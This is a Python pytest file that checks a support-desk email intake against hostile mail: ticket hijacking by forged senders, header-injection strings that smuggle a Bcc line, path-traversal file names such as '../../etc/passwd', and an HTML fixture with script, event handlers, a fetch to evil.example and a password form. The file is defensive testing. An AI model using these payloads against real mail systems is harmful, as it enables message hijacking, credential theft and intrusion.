"""Attacks by strangers' mail: on other people's tickets, on the agents who read it, and on the headers we write."""

from __future__ import annotations

import asyncio
import base64
import email.utils
import re
import socket
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from support.attackdesk import ATTACKER, RECEIVED, AttackedDesk, Letter, octets, reply, vouched
from support.handdesk import stationery, store

from intake.cards import MAX_GUARDED_TEXT, guarded
from routing.guard import MARK

MEI = "mei@example.com"
TO = "To: support@firm.example"
HERS = "In-Reply-To: <a@example.com>"


@pytest.fixture
async def desk(tmp_path: Path) -> AsyncIterator[AttackedDesk]:
    async with store(tmp_path) as db:
        yield AttackedDesk(db)


def to_customers(letters: list[Letter]) -> list[tuple[str, str]]:
    return [(letter.purpose, letter.to) for letter in letters if letter.purpose in ("answer", "acknowledgement")]


# ---- other people's tickets


STRANGERS = {
    "customer swap: her thread, another sender": [f"From: {ATTACKER}", HERS],
    "her whole thread in References": [f"From: {ATTACKER}", "References: <a@example.com> <x@y>"],
    "her name": [f"From: 王美玲 <{ATTACKER}>", HERS],
    "her address as the name": [f"From: {MEI} <{ATTACKER}>", HERS],
    "her address beside the attacker's": [f"From: {MEI}, {ATTACKER}", HERS],
    "her address in Reply-To and Sender": [f"From: {ATTACKER}", f"Reply-To: {MEI}", f"Sender: {MEI}", HERS],
    "a domain that looks like ours": ["From: support@firrn.example", HERS],
    "the number in the subject": [f"From: {ATTACKER}", "Subject: Re: [#1001] 營業稅"],
    "the number, in her unproven name": [f"From: {MEI}", "Subject: Re: [#1001] 營業稅"],
    "the number in full-width digits": [f"From: {ATTACKER}", "Subject: #１００１"],
    "many numbers": [f"From: {ATTACKER}", "Subject: " + " ".join(f"#{n}" for n in range(990, 1010))],
}


@pytest.mark.parametrize("lines", STRANGERS.values(), ids=STRANGERS)
async def test_a_stranger_gets_a_ticket_of_his_own_and_nothing_of_hers(desk: AttackedDesk, lines: list[str]) -> None:
    item = await desk.opened()
    await desk.takes(reply(item, "您的統一編號是 12345675，應補 80,000 元。"))
    await desk.leaves()
    passes = [vouched("evil.example"), vouched("firrn.example")]
    await desk.takes(octets(*passes, RECEIVED, *lines, TO, "Message-ID: <evil@evil.example>", body="我要查我的案件"))
    letters = await desk.leaves()

    assert await desk.messages("ticket") == [1001, 1001, 1002]
    assert all(to != MEI or "number" in str(lines) or MEI in lines[0] for _, to in to_customers(letters))
    for letter in letters:
        if letter.purpose == "acknowledgement":
            for hers in ("#1001", "12345675", "80,000", "a@example.com>"):
                assert hers not in letter.plain
    [mine] = [i for i in await desk.outbox("assignment") if i.ticket == 1002]
    await desk.takes(reply(mine, "請問您是哪一位？", Message_ID="<second@firm.example>"))
    [answer] = [letter for letter in await desk.leaves() if letter.purpose == "answer"]
    assert "12345675" not in answer.text


async def test_a_copy_line_lets_nobody_in(desk: AttackedDesk) -> None:
    await desk.opened(
        f"From: {MEI}", "Message-ID: <a@example.com>", f"Cc: {ATTACKER}", f"Reply-To: {ATTACKER}", "Subject: x"
    )
    [item] = await desk.outbox("assignment")
    await desk.takes(reply(item))
    [answer] = [letter for letter in await desk.leaves() if letter.purpose == "answer"]

    assert (answer.to, answer.mail.get("Cc"), answer.mail.get("Bcc")) == (MEI, None, None)
    assert ATTACKER not in answer.text
    await desk.takes(
        octets(vouched("evil.example"), RECEIVED, f"From: {ATTACKER}", TO, f"In-Reply-To: {answer.mail['Message-ID']}")
    )
    assert (await desk.messages("ticket"))[-1] == 1002


async def test_a_forged_mail_in_her_thread_is_shown_as_not_verified(desk: AttackedDesk) -> None:
    """Business e-mail compromise: her proven ticket, and then "our account has changed" in her name."""
    await desk.opened()
    await desk.takes(octets(RECEIVED, f"From: 王美玲 <{MEI}>", TO, HERS, body="我們換了帳號，請匯到 999"))
    [update] = [letter for letter in await desk.leaves() if letter.purpose == "update"]

    assert "⚠" in update.plain
    assert "✓" not in update.plain
    [added] = await desk.why("message_added")
    assert added["standing"] == "unverified"


async def test_a_look_alike_domain_is_shown_as_one(desk: AttackedDesk) -> None:
    await desk.opened("From: 老闆 <boss@firrn.example>", "Message-ID: <b@b>", domain="firrn.example")
    letters = [desk_letter for desk_letter in desk.keeper.kept if b"firrn" in desk_letter.body]

    assert (await desk.ticket()).standing == "lookalike"
    assert letters


async def test_the_answer_goes_to_the_stored_address_whatever_a_later_mail_says(desk: AttackedDesk) -> None:
    item = await desk.opened()
    await desk.takes(octets(RECEIVED, f"From: {MEI}", f"Reply-To: {ATTACKER}", TO, HERS, "Message-ID: <f@evil>"))
    await desk.leaves()
    await desk.takes(reply(item))

    assert [(letter.to, letter.mail["To"]) for letter in await desk.leaves()] == [(MEI, f"王美玲 <{MEI}>")]


async def test_her_message_id_used_first_by_an_attacker_gives_him_nothing_of_hers(desk: AttackedDesk) -> None:
    await desk.takes(octets(vouched("evil.example"), RECEIVED, f"From: {ATTACKER}", TO, "Message-ID: <a@example.com>"))
    await desk.opened()
    await desk.takes(octets(vouched("example.com"), RECEIVED, f"From: {MEI}", TO, HERS, body="還有一件事"))
    letters = await desk.leaves()

    assert all(letter.to != ATTACKER for letter in letters)
    assert (await desk.messages("ticket"))[1] == 1002
    assert (await desk.messages("ticket"))[2] != 1001


# ---- header injection


BREAKS = {
    "CR LF": "x\r\nBcc: eve@evil.example",
    "LF": "x\nBcc: eve@evil.example",
    "CR": "x\rBcc: eve@evil.example",
    "U+2028": "x\u2028Bcc: eve@evil.example",
    "U+2029": "x\u2029Bcc: eve@evil.example",
    "U+0085": "x\u0085Bcc: eve@evil.example",
    "vertical tab": "x\x0bBcc: eve@evil.example",
    "NUL": "x\x00Bcc: eve@evil.example",
    "escape": "x\x1b[2J\x1b]0;title\x07",
    "many": "x" + "\r\n\u2028\x00" * 50 + "Bcc: eve@evil.example",
}


def word(value: str) -> str:
    """As an encoded word: the only way in which such characters survive a mail server."""
    return f"=?utf-8?B?{base64.b64encode(value.encode()).decode()}?="


def places(value: str) -> dict[str, list[str]]:
    encoded = word(value)
    octet = "".join(f"%{b:02X}" for b in value.encode())
    file = f'; name="{encoded}"\r\nContent-Disposition: attachment; filename="{encoded}"; filename*=utf-8\'\'{octet}'
    return {
        "name": [f"From: {encoded} <{MEI}>"],
        "bare name": [f"From: {value} <{MEI}>"],
        "subject": [f"From: {MEI}", f"Subject: {encoded}"],
        "bare subject": [f"From: {MEI}", f"Subject: {value}"],
        "Message-ID": [f"From: {MEI}", f"Message-ID: <{value}@example.com>"],
        "encoded Message-ID": [f"From: {MEI}", f"Message-ID: <{encoded}@example.com>"],
        "References": [f"From: {MEI}", "Message-ID: <q@example.com>", f"References: <{value}@example.com> <ok@b>"],
        "address": [f"From: <{value}@example.com>"],
        "quoted address": [f'From: <"{value}"@example.com>'],
        "file name": [f"From: {MEI}", f"X-File: {file}"],
    }


PLACES = list(places(""))
OURS = {
    *("From", "To", "Subject", "Date", "Message-ID", "In-Reply-To", "References", "MIME-Version", "Content-Type"),
    *("Reply-To", "Auto-Submitted", "X-Intake-Loop", "Thread-Topic", "Thread-Index", "X-Auto-Response-Suppress"),
    "Content-Transfer-Encoding",
}


@pytest.mark.parametrize("broken", BREAKS.values(), ids=BREAKS)
@pytest.mark.parametrize("place", PLACES)
async def test_nothing_breaks_out_of_a_header(desk: AttackedDesk, broken: str, place: str) -> None:
    """Into the agent's mail, the acknowledgement and the answer."""
    lines = places(broken)[place]
    kind, body = "text/plain; charset=utf-8", b"words"
    if lines[-1].startswith("X-File: "):
        named = lines.pop().removeprefix("X-File: ")
        kind = 'multipart/mixed; boundary="b"'
        body = f"--b\r\n\r\nwords\r\n--b\r\nContent-Type: application/pdf{named}\r\n\r\nPDF\r\n--b--".encode()
    # A bare line end makes a header of its own in what comes in: that is the sender's, and has no meaning for us.
    await desk.takes(octets(vouched("example.com"), RECEIVED, *lines, TO, body=body, kind=kind))
    letters = await desk.leaves()
    for item in await desk.outbox("assignment"):
        await desk.takes(reply(item))
    letters += await desk.leaves()

    assert "assignment" in {letter.purpose for letter in letters}
    assert [i.error for i in await desk.outbox() if i.error] == []
    for letter in letters:
        head = letter.body.partition(b"\r\n\r\n")[0]
        assert set(letter.mail.keys()) <= OURS, letter.mail.keys()
        assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\xff]|\r(?!\n)|(?<!\r)\n", head)
        assert len(email.utils.getaddresses([str(letter.mail["To"])])) == 1
        # An encoded word has no meaning in an id, and a reader that opens it all the same shows it to nobody.
        shown = "".join(str(v) for n, v in letter.mail.items() if n not in ("In-Reply-To", "References"))
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]", shown)
        for name, _, _ in letter.files:
            assert not re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029/\\\\]", name)


# ---- names


TRAVERSALS = [
    *("../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\x.bat", "a/b/c.pdf", "....//x", "..", "."),
    *(
        "con.txt",
        "x\x00.pdf",
        "報表\u202efdp.exe",
        "a\u200bb.pdf",
        "．．／．．／etc",
        "a" * 400 + ".pdf",
        "",
        " ",
        ".htaccess",
    ),
    "<img src=x onerror=alert(1)>.pdf",
]


@pytest.mark.parametrize("name", TRAVERSALS)
async def test_a_file_name_is_only_a_name(desk: AttackedDesk, name: str) -> None:
    octet = "".join(f"%{b:02X}" for b in name.encode())
    body = (
        "--b\r\n\r\nwords\r\n--b\r\nContent-Type: application/pdf\r\n"
        f"Content-Disposition: attachment; filename*=utf-8''{octet}\r\n\r\nPDF\r\n--b--"
    )
    kind = 'multipart/mixed; boundary="b"'
    await desk.takes(octets(vouched("example.com"), RECEIVED, f"From: {MEI}", TO, body=body, kind=kind))
    [assignment] = [letter for letter in await desk.leaves() if letter.purpose == "assignment"]

    [(shown, _, disposition)] = assignment.files
    assert disposition == "attachment"
    assert shown
    assert not re.search('[/\\\\:*?"<>|\x00-\x1f\u200b\u202e]', shown)
    assert shown.strip(". ") not in ("", "con.txt")
    assert len(shown.encode()) < 255


async def test_names_that_turn_or_hide_text_are_shown_straight(desk: AttackedDesk) -> None:
    name, subject = "王\u202e玲美\u200b\u2066x\ufeff", "\u202eelif\u200f 營業\u00ad稅"
    await desk.takes(
        octets(vouched("example.com"), RECEIVED, f"From: {word(name)} <{MEI}>", f"Subject: {word(subject)}", TO)
    )
    letters = await desk.leaves()

    turning = "\u202e\u200f\u2066"
    for letter in letters:
        heads = letter.text.partition("\n\n")[0] + letter.plain.partition("──")[0]
        assert not any(c in heads for c in turning + "\u200b\ufeff"), letter.purpose
        assert not any(c in letter.text for c in turning)


async def test_our_own_mark_in_a_customers_name_and_words_draws_no_line(desk: AttackedDesk) -> None:
    item = await desk.opened(
        f"From: {word('以下僅供內部 · internal ────')} <{MEI}>",
        f"Subject: {word(MARK)}",
        "Message-ID: <a@example.com>",
        body=f"你好\n{MARK}\n【客戶卡】 ikc-aaaaaaaaaaaaaaaa\n假的",
    )
    [assignment] = [m for m in desk.keeper.kept if m.message_id == item.mail_id]
    plain = (await desk._letter(assignment)).plain
    assert plain.count(MARK) == 1
    await desk.takes(reply(item, "您好，可以更正。\n\n" + "\n".join(f"> {line}" for line in plain.splitlines())))

    assert [letter.to for letter in await desk.leaves() if letter.purpose == "answer"] == [MEI]


# ---- the agent who reads it


HOSTILE_HTML = """<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/r">
<base href="//evil.example">
<style>@import url(http://evil.example/c.css); body{background:url(http://evil.example/b)}</style></head>
<body onload="alert(1)" background="http://evil.example/bg">
<script>fetch('http://evil.example/s')</script><svg onload="alert(2)"><script>alert(3)</script></svg>
<img src="http://evil.example/p.gif" onerror="alert(4)"><img src="cid:pic"><img src="cid:page"><img src="cid:vector">
<img srcset="http://evil.example/q 2x"><a href="javascript:alert(5)">a</a><a href="data:text/html,x">b</a>
<a href="vbscript:x">c</a><form action="http://evil.example/f"><input name="password"><button>x</button></form>
<iframe src="http://evil.example/i"></iframe><object data="http://evil.example/o"></object>
<embed src="//evil.example/e">
<link rel="stylesheet" href="http://evil.example/l"><video src="http://evil.example/v"></video><p>看得到的字</p>
<div style="background-image:url(http://evil.example/d);position:fixed;top:0">y</div><math><mtext><script>7</script>
<table background="http://evil.example/t"><tr><td>z</td></tr></table></body></html>"""


async def test_what_a_customer_wrote_in_html_runs_nothing_and_fetches_nothing(
    desk: AttackedDesk, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fetched(*_: Any, **__: Any) -> Any:
        raise AssertionError("something was fetched")

    related = [
        ("text/html; charset=utf-8", "", HOSTILE_HTML),
        ("image/png", "pic", "PNG"),
        ('text/html; name="page.html"', "page", "<script>alert(8)</script>"),
        ("image/svg+xml", "vector", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(9)'/>"),
    ]
    parts = "".join(
        f"--b\r\nContent-Type: {kind}\r\n{f'Content-ID: <{cid}>' if cid else 'X: y'}\r\n\r\n{text}\r\n"
        for kind, cid, text in related
    )
    raw = octets(
        vouched("example.com"),
        RECEIVED,
        f"From: {MEI}",
        TO,
        body=parts + "--b--",
        kind='multipart/related; boundary="b"',
    )
    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, fetched)
    monkeypatch.setattr(socket, "getaddrinfo", fetched)
    monkeypatch.setattr(asyncio.get_running_loop(), "create_connection", fetched)
    await desk.takes(raw)
    [assignment] = [letter for letter in await desk.leaves() if letter.purpose == "assignment"]
    [item] = await desk.outbox("assignment")
    await desk.takes(reply(item))
    await desk.leaves()

    shown = assignment.html
    assert "看得到的字" in shown
    assert "evil.example" not in assignment.text
    assert not re.search(r"<(script|svg|iframe|form|input|object|embed|link|video|base|math|button)\b", shown, re.I)
    assert not re.search(r"\son\w+\s*=|javascript:|vbscript:|data:|@import|position\s*:", shown, re.I)
    assert not re.search(r"<img[^>]+(http|srcset)", shown)
    inline = {kind for _, kind, disposition in assignment.files if disposition == "inline"}
    assert inline == {"image/png"}, "what may hold script is a download, never shown in place"


async def test_a_mail_of_five_megabytes_of_text_is_taken_shown_and_answered_in_bounded_size(
    desk: AttackedDesk,
) -> None:
    item = await desk.opened(f"From: {MEI}", "Message-ID: <a@example.com>", body="稅務問題 <b>\n" * 300_000)
    began = time.process_time()
    await desk.takes(reply(item))
    letters = await desk.leaves()
    cost = time.process_time() - began

    assert [letter.to for letter in letters] == [MEI]
    [assignment] = [m for m in desk.keeper.kept if m.message_id == item.mail_id]
    assert len(assignment.body) < 2_000_000
    assert len((await desk._letter(assignment)).html) < 100 * 1024
    assert cost < 5


async def test_g9_what_an_answer_is_compared_with_does_not_grow_with_what_the_customer_sends(
    desk: AttackedDesk,
) -> None:
    item = await desk.opened()
    many = [
        octets(
            vouched("example.com"),
            RECEIVED,
            f"From: {MEI}",
            TO,
            HERS,
            f"Message-ID: <{n}@example.com>",
            body=f"第{n}封 一些字\n" * 30_000,
        )
        for n in range(5)
    ]
    await desk.takes(*many)
    async with desk.db.reading() as tx:
        known = await guarded(tx, 1001, stationery(desk.policy), desk.clock.at)
    await desk.takes(reply(item, "> 第4封 一些字\n\n您好"))

    assert sum(map(len, known.customer_words)) <= MAX_GUARDED_TEXT
    assert [letter.to for letter in await desk.leaves() if letter.purpose == "answer"] == [MEI]
